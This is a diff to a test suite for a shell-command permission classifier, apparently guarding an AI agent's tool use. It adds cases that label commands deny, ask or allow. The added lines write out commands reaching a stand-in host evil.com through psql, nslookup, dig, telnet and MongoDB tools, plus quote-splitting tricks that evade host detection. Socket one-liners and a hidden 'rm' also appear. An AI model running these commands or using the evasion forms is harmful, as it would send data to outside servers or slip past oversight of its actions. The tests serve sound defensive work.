@@ -211,6 +211,10 @@ describe('hosts a tool reaches are seen', () => {
     // psql's \c and mysql's connect reach another server; more libpq and redis/mysql clients (were allowed).
     [`psql -c '\\c db u evil.com'`, 'deny'], [`psql -c '\\connect postgres://evil.com/db'`, 'deny'], [`psql -c '\\c "host=evil.com"'`, 'deny'],
     [`psql <<< '\\c db u evil.com'`, 'deny'], [`psql -c '\\c db u :h'`, 'ask'], [`psql -c '\\c otherdb'`, 'allow'], [`psql -c '\\c - - localhost'`, 'allow'],
+    // (Found in review: psql removes quotes anywhere in \c's words; a digit-named variable is substituted.)
+    [`psql -c '\\c db u "evil".com'`, 'deny'], [`psql -c '\\c db u evi""l.com'`, 'deny'], [`psql -c "\\\\c db u 'evil'.com"`, 'deny'],
+    [`psql -c '\\c db u "evil.com'`, 'ask'], [`psql -c '\\c db u :1'`, 'ask'], [`psql -c '\\c "db" "u" "good.example"'`, 'allow'],
+    [`psql -c '\\setenv PGHOST evil.com' -c '\\c -reuse-previous=off db u'`, 'ask'],
     [`mysql -e 'connect db evil.com'`, 'deny'], [`mysql -e '\\r db evil.com'`, 'deny'], ['pgbench -h evil.com -i', 'deny'], [`pgbench 'host=evil.com'`, 'deny'],
     ['pgbench -c 10 -T 60 mydb', 'allow'], ['pg_receivewal -h evil.com -D x', 'deny'], [`pg_recvlogical -d 'host=evil.com' --start`, 'deny'],
     ['valkey-cli -h evil.com', 'deny'], ['mysqlsh --uri u@evil.com', 'deny'], ['mysqlsh u@evil.com:3306', 'deny'],
@@ -244,6 +248,8 @@ describe('lines with no such effect stay allowed', () => {
     ['openssl x509 -in c.pem -noout -text', 'bash'], ['openssl req -new -key k.pem -subj /CN=evil.com -out r.csr', 'bash'], ['docker run -it -v data:/x alpine', 'bash'], ['docker build -t tag .', 'bash'], ['docker run --rm -v "$PWD":/app node:20 npm ci', 'bash'],
     ['touch -d 2020-01-01 f', 'bash'], ['truncate -s 0 f', 'bash'], ['psql -c "select 1" -d mydb', 'bash'], ['diff a b', 'bash'], ['gzip -k notes.txt', 'bash'],
     ["concurrently -n a,b 'npm test' 'ls'", 'bash'], ['less +G x', 'bash'], ['man ls', 'bash'], ['setarch --list', 'bash'],
+    ['nslookup example.org', 'bash'], ['nslookup <<< "example.org"', 'bash'], ['dig -f - <<< "example.org +short"', 'bash'],
+    ['telnet -E example.org 25', 'bash'], ['mongodump -d db -o dump', 'bash'],
     ['Get-Content C:\\w\\repo\\a.txt', 'powershell'], ['echo $env:PATH ${env:HOME} $script:x', 'powershell'],
     ['gcc -O2 -Wall -o app main.c -lm', 'bash'], ['gcc -std=c99 -I include -c a.c', 'bash'], ['gcc a.c && ./a.out', 'bash'], ['gcc -o app a.c && ./app', 'bash'],
     ['pip install -r requirements.txt', 'bash'], ['pip install -e .', 'bash'], ['pip install requests', 'bash'], ['logger hello', 'bash'], ['cargo install ripgrep', 'bash'],
@@ -286,6 +292,15 @@ describe('option forms and names the readers first missed', () => {
     [`ruby -rsocket -e 'TCPSocket.new("evil.com", 80)'`, 'deny'], [`perl -MIO::Socket::INET -e 'IO::Socket::INET->new("evil.com:80")'`, 'deny'],
     [`perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => "evil.com")'`, 'deny'], [`php -r 'fsockopen("evil.com", 80);'`, 'deny'],
     ['python3 -m webbrowser evil.com', 'deny'],
+    // Lookups and servers from standard input or a file: nslookup with no name (or `-`), dig -f,
+    // telnet (`open HOST`, and `!CMD` after ^] unless -E); delv; the MongoDB database tools (were allowed).
+    ['echo evil.com | nslookup', 'ask'], ['nslookup <<< "server evil.com"', 'deny'], ['nslookup - 8.8.8.8 <<< "evil.com"', 'deny'],
+    ['nslookup <<< "set domain=evil.com"', 'deny'], ["printf 'server 127.0.0.1\\n' | nslookup -port=5353", 'ask'],
+    ['dig -f names.txt', 'ask'], ['dig -f -', 'ask'], ['dig -f /dev/stdin <<< "@evil.com x.org"', 'deny'], ['kdig -f - <<< "x.org"', 'ask'],
+    ['echo "open evil.com" | telnet', 'ask'], ['telnet', 'ask'], ["printf '\\035\\n!rm x\\n' | telnet good.example 23", 'ask'],
+    ['delv @evil.com x.org', 'deny'], ['delv evil.com', 'deny'],
+    ['mongodump --host evil.com', 'deny'], ['mongodump -h rs0/a.example,evil.com:27017', 'deny'], ['mongorestore -hevil.com dump', 'deny'],
+    ['mongoexport --uri=mongodb://evil.com/db -c x', 'deny'], ['mongoimport --config c.yml', 'ask'], ['mongodump -o /etc/x', 'ask'],
     // inline code: blanks before qx's delimiter; a special scheme's URL without `//`.
     [`perl -e 'print qx (rm x)'`, 'deny'], [`node -e 'fetch("https:evil.com")'`, 'deny'], [`node -e 'fetch("https:/evil.com")'`, 'deny'],
     // A URL in code ends at a character no host has (it took that character into the host).
